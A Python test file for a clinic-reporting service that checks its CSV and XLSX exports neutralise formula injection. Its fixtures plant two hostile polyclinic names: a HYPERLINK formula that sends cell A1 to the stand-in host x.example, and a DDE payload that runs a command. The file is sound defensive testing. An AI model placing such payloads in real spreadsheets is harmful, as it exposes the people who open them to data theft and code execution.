"""Exported files (CSV, XLSX): no cell is ever a formula, whatever the source of its text."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from sihha_kit.testing.apps import running
from sihha_reporting.bootstrap import create_app
from sihha_reporting.config import ReportingSettings
from sihha_reporting.rendering.tabular import FORMULA_TRIGGERS, neutralise
from sihha_reporting.synthetic import EventFactory, clinic_day

from .conftest import NOW, consumer_ready, publish, wait_for_archive

DAY = date(2026, 10, 6)
REGISTRY = Path(__file__).resolve().parents[3] / "registry" / "oran-establishments.yaml"
#: what a careless or hostile registry editor could type as the names of a polyclinic
NAME_FR = '=HYPERLINK("http://x.example/?"&A1,"Colonel Lotfi")'
NAME_AR = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("31-PC-001", "31-PC-001"),
        ("وهران", "وهران"),
        ("", ""),
        (-3, -3),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_text_that_reads_as_a_formula_is_neutralised(
    value: str | int | float | None, expected: str | int | float | None
) -> None:
    assert neutralise(value) == expected


@pytest.fixture
async def hostile_registry_app(
    reporting_settings: ReportingSettings, tmp_path: Path
) -> AsyncIterator[tuple[FastAPI, httpx.AsyncClient, ReportingSettings]]:
    text = REGISTRY.read_text(encoding="utf-8")
    # a JSON string is a YAML double-quoted scalar
    text = text.replace('"Polyclinique Colonel Lotfi"', json.dumps(NAME_FR), 1)
    text = text.replace('"العيادة متعددة الخدمات العقيد لطفي"', json.dumps(NAME_AR), 1)
    registry = tmp_path / "registry.yaml"
    registry.write_text(text, encoding="utf-8")
    settings = reporting_settings.model_copy(update={"registry_path": registry})
    app = create_app(settings, clock=lambda: NOW)
    async with running(app) as client:
        await consumer_ready(app)
        yield app, client, settings


@pytest.mark.integration
@pytest.mark.parametrize("lang", ["fr", "ar"])
async def test_no_exported_cell_is_a_formula(
    hostile_registry_app: tuple[FastAPI, httpx.AsyncClient, ReportingSettings],
    group: dict[str, str],
    lang: str,
) -> None:
    _, client, settings = hostile_registry_app
    events = clinic_day(EventFactory(), "31-PC-001", DAY, tickets=5, rng=random.Random(8))
    await publish(settings, events)
    assert await wait_for_archive(settings, len(events)) == len(events)
    path = f"/reports/wilaya/daily/{DAY.isoformat()}"

    response = await client.get(path, params={"format": "csv", "lang": lang}, headers=group)
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    name = NAME_AR if lang == "ar" else NAME_FR
    assert "'" + name in cells  # the name is there, as text

    response = await client.get(path, params={"format": "xlsx", "lang": lang}, headers=group)
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert not [
        c.value for c in found if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)
    ]
    assert "'" + name in {c.value for c in found}
